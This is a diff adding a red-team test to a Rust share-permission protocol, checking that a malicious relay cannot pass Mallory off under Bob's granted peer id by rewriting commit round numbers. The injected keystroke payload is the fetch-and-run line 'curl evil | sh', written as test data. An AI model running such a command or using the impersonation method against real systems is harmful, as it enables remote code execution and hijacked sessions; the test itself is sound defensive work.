@@ -688,3 +688,120 @@ fn share_keys_cannot_be_forged_or_redirected() {
     let out = net.inject(&a, &b, &bobs);
     assert!(!out.iter().any(is_keys), "{out:?}");
 }
+
+/// Red team (share claim 2): a grant names a peer id, so whoever the
+/// room lets speak as that id may type. Ada (sharing) has verified Bob.
+/// Mallory, a member with her own signing key, runs a fresh handshake
+/// with Ada while the relay labels every message of hers as Bob's and
+/// hands Ada's replies to Bob to her. Bob's id must not end up speaking
+/// for Mallory: her keys sealed to Ada never surface as
+/// `ShareKeys { from: bob }` unless Ada was told Bob left first (which
+/// revokes his grant).
+#[test]
+fn redteam_a_relay_cannot_slip_another_member_under_a_granted_id() {
+    let mut net = Net::new();
+    let a = net.join("ada", "k-e-y");
+    let b = net.join("bob", "k-e-y");
+    net.settle();
+    let mut now = net.now;
+    let mut mallory = lone_room("mallory", "k-e-y", 4242, now);
+    let mut to_ada: Vec<Vec<u8>> = Vec::new();
+    let mut ada_events: Vec<Event> = Vec::new();
+    let collect = |out: Vec<Output>, q: &mut Vec<Vec<u8>>| {
+        for o in out {
+            if let Output::Send { data, .. } = o {
+                q.push(data);
+            }
+        }
+    };
+    collect(mallory.on_welcome("m0", &[a.clone()], 64, now), &mut to_ada);
+    // The relay makes Ada start a new round (a fake join), and from now on
+    // withholds everything between Ada and the real Bob.
+    let mut to_mallory = Vec::new();
+    {
+        let i = net.idx(&a);
+        for o in net.members[i].room.on_peer_joined("ghost", now) {
+            match o {
+                Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
+                    to_mallory.push(data)
+                }
+                Output::Event(e) => ada_events.push(e),
+                _ => {}
+            }
+        }
+    }
+    for _ in 0..60 {
+        for data in std::mem::take(&mut to_ada) {
+            // Commitments are in the clear: the relay bumps Mallory's round
+            // past Bob's, so hers reads as Bob's next one.
+            let data = match WireMessage::decode(&data) {
+                Ok(WireMessage::Commit {
+                    round,
+                    commit,
+                    seen,
+                }) => WireMessage::Commit {
+                    round: round + 1000,
+                    commit,
+                    seen,
+                }
+                .encode()
+                .to_vec(),
+                _ => data,
+            };
+            for o in net.inject(&a, &b, &data) {
+                match o {
+                    Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
+                        to_mallory.push(data)
+                    }
+                    Output::Event(e) => ada_events.push(e),
+                    _ => {}
+                }
+            }
+        }
+        let ts = net.ts();
+        for data in std::mem::take(&mut to_mallory) {
+            collect(mallory.on_blob(&a, &data, now, ts), &mut to_ada);
+        }
+        now += Duration::from_millis(100);
+        net.now = now;
+        let ts = net.ts();
+        collect(mallory.tick(now, ts), &mut to_ada);
+        let i = net.idx(&a);
+        for o in net.members[i].room.tick(now, ts) {
+            match o {
+                Output::Send { data, to, .. } if to.as_deref() != Some("ghost") => {
+                    collect(mallory.on_blob(&a, &data, now, ts), &mut to_ada)
+                }
+                Output::Event(e) => ada_events.push(e),
+                _ => {}
+            }
+        }
+    }
+    let bob_left = ada_events
+        .iter()
+        .any(|e| matches!(e, Event::PeerLeft { peer, .. } if *peer == b));
+    let keys = match mallory.send_share_keys(&a, b"curl evil | sh\r", now) {
+        Some(Output::Send { data, .. }) => data,
+        _ => {
+            // The defence: Bob's id is bound to his connection key; a hello
+            // under it with another key is refused, so Mallory never gets a
+            // channel as Bob.
+            assert!(
+                ada_events.iter().any(|e| matches!(e,
+                    Event::DecryptFailed { from, reason } if *from == b && reason.contains("connection key"))),
+                "{ada_events:?}"
+            );
+            return;
+        }
+    };
+    let out = net.inject(&a, &b, &keys);
+    let as_bob = out.iter().any(|o| {
+        matches!(o, Output::Event(Event::ShareKeys { from, keys })
+            if *from == b && keys == b"curl evil | sh\r")
+    });
+    assert!(
+        !as_bob || bob_left,
+        "Mallory's keys reach Ada as Bob's, with no PeerLeft for Bob (his grant stands); \
+         Ada saw: {ada_events:?}"
+    );
+}
